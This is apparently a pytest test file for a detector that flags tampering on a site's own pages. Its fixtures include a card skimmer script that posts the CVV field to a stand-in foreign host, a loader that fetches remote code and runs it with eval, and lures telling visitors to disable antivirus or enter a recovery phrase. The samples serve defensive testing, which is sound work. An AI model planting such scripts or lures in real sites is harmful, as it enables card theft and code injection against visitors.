"""Pretences on the site's own pages, and scripts that take what visitors type."""

from collections.abc import Sequence

import pytest

from app.domain.tampering import TamperSign
from app.engines.analyse.own_site.own_lures import examine_lures
from app.engines.extract.page import extract_document
from app.engines.html.document import HtmlDocument
from app.engines.parsing.own_pages import own_page_of
from tests.support.cpu_time import least_cpu_s

URL = "https://www.school.test/"
TYPE = "text/html; charset=utf-8"


def signs(html: str, *, known: Sequence[str] = ()) -> list[TamperSign]:
    document = HtmlDocument.decode(html.encode(), TYPE)
    page = own_page_of(document, extract_document(document, url=URL, headers=[("content-type", TYPE)]), URL)
    return [one.sign for one in examine_lures(page, lambda host: host in known, offer_in)]


def offer_in(text: str) -> tuple[str, tuple[str, ...]] | None:
    return ("an offer", ("offer",)) if "an offer" in text else None


SKIMMER = """<script>document.forms[0].addEventListener("submit",function(){
    fetch("https://api.collect.test/x",{method:"POST",body:document.querySelector("#cvv").value})})</script>"""


def test_what_is_typed_is_handed_over_to_a_foreign_host():
    assert signs(SKIMMER) == [TamperSign.SCRIPT_TAKES]


@pytest.mark.parametrize(
    ("html", "known"),
    [
        (SKIMMER, ["api.collect.test"]),
        (SKIMMER.replace("api.collect.test", "api.school.test"), []),
        (SKIMMER.replace("#cvv", "#search"), []),
    ],
)
def test_services_the_site_itself_and_searches_take_nothing(html, known):
    assert signs(html, known=known) == []


def test_code_that_a_foreign_host_sends_is_run():
    code = '<script>fetch("https://cdn.load.test/a").then(r=>r.text()).then(t=>eval(t))</script>'
    assert signs(code) == [TamperSign.SCRIPT_TAKES]
    assert signs('<script>import("https://cdn.load.test/a.js")</script>') == [TamperSign.SCRIPT_TAKES]


PROGRAM = '<p>{}</p><a href="https://dl.files.test/setup.zip">Setup</a> <p>Unpack with the password 1234.</p>'


def test_protection_is_to_be_switched_off_for_a_program_that_lies_elsewhere():
    assert signs(PROGRAM.format("First pause real-time protection.")) == [TamperSign.LURE]


@pytest.mark.parametrize(
    "text",
    [
        "Please do not turn off your antivirus.",
        "The page told people to switch off their antivirus and run it.",
        "安装时无须关闭杀毒软件。",
    ],
)
def test_who_advises_against_it_lures_nobody(text):
    assert signs(PROGRAM.format(text)) == []


def test_a_script_says_what_a_foreign_one_shows():
    foreign = '<script src="https://chat.window.test/w.js"></script>'
    assert signs(f"{foreign}<script>cfg={{t:'an offer'}}</script>") == [TamperSign.LURE]
    assert signs("<script>cfg={t:'an offer'}</script>") == []
    assert signs(f"{foreign}<script>ask='Enter your 12 word recovery phrase'</script>") == [TamperSign.LURE]


def test_a_head_says_that_the_page_is_that_of_a_house():
    assert signs('<link rel="canonical" href="https://www.big-casino.test/">') == [TamperSign.LURE]
    assert signs('<link rel="canonical" href="https://www.city.test/">') == []


@pytest.mark.parametrize(
    "tag",
    [
        "<script src=//" + "a." * 9 + "bc" * 20 + "x" * 480 + "y" * 1_100 + "<",
        "<script src=//" + ("a-" * 31 + ".") * 9 + "b" * 62 + "!",
        "<script " + "src=//a.bc" * 60 + "<",
    ],
)
def test_tags_that_nearly_name_a_script_cost_little(tag):
    assert least_cpu_s(lambda: signs(tag * 100), enough_s=0.5) < 0.5
